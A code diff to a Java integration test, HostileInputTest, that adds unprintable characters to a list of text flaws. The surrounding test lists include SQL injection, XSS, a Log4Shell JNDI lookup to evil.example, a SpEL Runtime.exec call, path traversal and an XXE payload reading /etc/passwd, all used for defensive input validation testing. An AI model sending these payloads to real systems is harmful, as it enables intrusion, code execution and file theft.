@@ -42,8 +42,13 @@ class HostileInputTest extends IntegrationTest {
   static final List<String> INJECTIONS = List.of("'; DROP TABLE commitment_case; --", "\" OR 1=1 --",
       "<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}",
       "#{T(java.lang.Runtime).getRuntime().exec('id')}", "../../../../etc/passwd", "\u0000\u202e控制字符");
-  /** What no name or free text may hold (FreeText): NUL, a right-to-left override, a bidi isolate, a bell. */
-  static final List<String> TEXT_FLAWS = List.of("\u0000", "\u202e", "\u2066", "\u0007");
+  /**
+   * What no name or free text may hold (FreeText): NUL, a right-to-left override, a bidi isolate, a bell; and what
+   * the documents' font cannot print: an emoji, a CJK Extension B character, a private-use character, a 4-byte
+   * mathematical letter.
+   */
+  static final List<String> TEXT_FLAWS = List.of("\u0000", "\u202e", "\u2066", "\u0007", "\uD83D\uDE00",
+      "\uD840\uDC00", "\uE000", "\uD835\uDC00");
   static final String XXE = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
   static final List<String> PRODUCT_TABLES = List.of("credit_subject", "credit_dishonesty_record",
       "credit_fulfilment_record", "credit_penalty", "credit_pushed_record", "credit_inspection_feed",
